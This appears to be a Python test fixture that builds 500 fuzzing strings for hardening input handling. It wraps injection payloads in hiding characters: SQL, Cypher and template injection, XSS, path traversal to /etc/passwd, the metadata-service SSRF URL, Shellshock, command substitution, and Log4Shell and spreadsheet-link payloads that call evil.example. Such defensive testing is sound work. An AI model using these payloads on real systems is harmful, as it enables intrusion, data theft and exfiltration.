"""Hostile text: what attackers type into fields, wrapped in every way that hides it."""

from __future__ import annotations

from itertools import product

MEGABYTE = 1 << 20

_BODIES = (
    "` DETACH DELETE n //",
    "`}) MATCH (n) DETACH DELETE n //",
    "A\\u0060) RETURN 'INJECTED' AS r //",
    "A\\u0060]->() SET n:Owned //",
    "'}) CREATE (:Owned {id: 1}) //",
    '"}) CREATE (:Owned {id: 1}) //',
    "$run ${row[0]} {rows} $(label)",
    "'; DROP TABLE events; --",
    "' OR '1'='1",
    "\"); ATTACH '/etc/passwd'; --",
    "$$; COPY events TO '/tmp/out'; $$",
    "read_csv('/etc/passwd')",
    "%s %(id)s %n %x",
    "{0.__class__.__mro__} {account_id}",
    "{{7*7}} {% import os %} ${7*7} #{7*7}",
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    "</script><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "[x](javascript:alert(1)) ![y](http://e.example/z)",
    ":red[bold] $\\frac{1}{0}$",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.csv",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "${jndi:ldap://evil.example/a}",
    "() { :;}; /bin/sh -c id",
    "$(id) `id` | id",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "line\r\nINFO forged: all is well",
    "\u202efdp.exe",
    "a\u0301\u0301\u0301\u0301\u0301",
    "\u200b\ufeff\u2060hidden",
    "\U000e0041\U000e0042 tags",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea",
    "\ufdfa\ufdfa \u0344 \u1e9b\u0323",
    "\u0440\u0430\u0443\u0440\u0430l \u0391\u0392\u0395",
    "\u0130\u0131\u017f\u212a \ufb00 \u00df",
    "null",
    "NaN",
    "-1e999",
    "9" * 400,
    '{"id": [1, {"a": null}]}',
    "__proto__",
    "id",
)
_WRAPS = (
    "{}",
    "\u202e{}",
    "{}\x00",
    "\t{}",
    "{}\r\n",
    "\u200b{}\u200b",
    "x\\u0060{}\\u0060",
    "``{}``",
    "'\"{}\"'",
    "{0} {0} {0}",
)

HOSTILE: tuple[str, ...] = tuple(
    wrap.replace("{0}", body).replace("{}", body)
    for wrap, body in product(_WRAPS, _BODIES)
)
"""Five hundred of them; those at the front are the plain ones."""
